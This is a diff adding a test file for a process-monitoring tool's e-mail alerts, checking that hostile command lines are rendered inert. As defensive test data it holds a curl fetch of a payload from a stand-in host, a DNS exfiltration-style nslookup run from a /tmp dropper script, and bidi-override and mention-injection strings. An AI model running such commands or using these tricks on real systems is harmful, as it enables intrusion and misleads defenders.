@@ -1,0 +1,112 @@
+import { readFileSync, writeFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { defangLinks, formatEmailBody } from "../../lib/alerts/format-email.js";
+import { snsSubject } from "../../lib/alerts/sns-message.js";
+import { detect, exec, shell } from "../helpers/exec-events.js";
+import { replayText } from "../helpers/replay-text.js";
+import { CAPTURED_AUDITD, readSample } from "../helpers/samples.js";
+
+const GOLDEN = fileURLToPath(new URL("../fixtures/email/captured-nslookup.txt", import.meta.url));
+
+/** Characters that act in a terminal, a mail client or a bidi-aware renderer. */
+const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
+
+async function alertWithArgs(args: string[], parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"]) {
+  const { alerts } = await detect([
+    shell(),
+    exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: parentArgs }),
+    exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args }),
+  ]);
+  return alerts[0]!;
+}
+
+describe("e-mail", () => {
+  it("matches the golden e-mail for the captured nslookup alert (UPDATE_GOLDEN=1 rewrites it)", async () => {
+    const { alerts } = await replayText(readSample(CAPTURED_AUDITD));
+    const alert = alerts[0]!;
+    const email = `Subject: ${snsSubject(alert)}\n\n${formatEmailBody(alert)}\n`;
+    if (process.env["UPDATE_GOLDEN"] === "1") writeFileSync(GOLDEN, email);
+    expect(email).toBe(readFileSync(GOLDEN, "utf8"));
+  });
+
+  it("says what happened, draws the whole tree with pid, user, executable, script and command line", async () => {
+    const { alerts } = await replayText(readSample(CAPTURED_AUDITD));
+    const body = formatEmailBody(alerts[0]!);
+    for (const part of [
+      "nslookup (dns) executed; script run by an ancestor is in a writable directory",
+      "location   /tmp/dropper.sh  (kind script, depth 1, tier temp)",
+      "host       vm   container -",
+      "first seen 2026-11-27T23:27:18.628Z, first sighting in this dedup window",
+      "T1071.004 Application Layer Protocol: DNS (Command and Control)",
+      "[14823] user=root /usr/bin/bash  $ /bin/bash /opt/sim/run.sh  script=/opt/sim/run.sh",
+      "└─ [14826] user=root /usr/bin/dash  $ /bin/sh /tmp/dropper.sh  script=/tmp/dropper.sh",
+      "└─ [14828] user=root /usr/bin/nslookup  $ nslookup vm.leak.example 192.0.2.53",
+      "1. Check who ran the utility",
+    ]) {
+      expect(body).toContain(part);
+    }
+  });
+
+  it("a hostile command line is inert: no mention, link, backtick trick, bidi override or new line acts", async () => {
+    const hostile =
+      "x <!channel> <https://evil.example|click> ```rm``` \u202egnp.exe\nFAKE: [CRITICAL] all clear";
+    const alert = await alertWithArgs(["curl", hostile, "http://evil.example/payload"]);
+    const body = formatEmailBody(alert);
+    const subject = snsSubject(alert);
+    expect(body).not.toMatch(ACTIVE);
+    expect(body).not.toMatch(/https?:\/\//i);
+    expect(body).toContain("hxxp[://]evil.example/payload");
+    expect(body).toContain("\\u202egnp.exe\\nFAKE: [CRITICAL] all clear");
+    expect(body.split("\n").filter((l) => l.includes("FAKE"))).toHaveLength(1);
+    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+  });
+
+  it.each([
+    ["https://evil.example/a", "hxxps[://]evil.example/a"],
+    ["HTTP://X", "HxxP[://]X"],
+    ["ftp://files.example", "fxp[://]files.example"],
+    ["see www.evil.example", "see www[.]evil.example"],
+    ["javascript://x", "javascript[://]x"],
+    ["no link here", "no link here"],
+  ])("defangs %s", (input, output) => {
+    expect(defangLinks(input)).toBe(output);
+  });
+
+  it("no generated command line yields an active character or a live link in the e-mail", async () => {
+    const fragment = fc.constantFrom(
+      "<!channel>",
+      "<https://e.example|x>",
+      "`",
+      "```",
+      "\u202e",
+      "\u2066",
+      "\n",
+      "\r",
+      "\u001b[2J",
+      "\u0085",
+      "http://",
+      "www.",
+      "@here",
+      "&",
+      "<",
+      ">",
+    );
+    const part = fc.oneof(fc.string({ unit: "binary", maxLength: 20 }), fragment);
+    const argv = fc.array(
+      fc.array(part, { maxLength: 6 }).map((p) => p.join("")),
+      { minLength: 1, maxLength: 4 },
+    );
+    await fc.assert(
+      fc.asyncProperty(argv, argv, async (args, parentArgs) => {
+        const alert = await alertWithArgs(["curl", ...args], ["/bin/sh", "/tmp/x.sh", ...parentArgs]);
+        const body = formatEmailBody(alert);
+        expect(body).not.toMatch(ACTIVE);
+        expect(body).not.toMatch(/[a-z0-9+.-]:\/\//i);
+        expect(snsSubject(alert)).toMatch(/^[\x20-\x7e]{1,99}$/);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
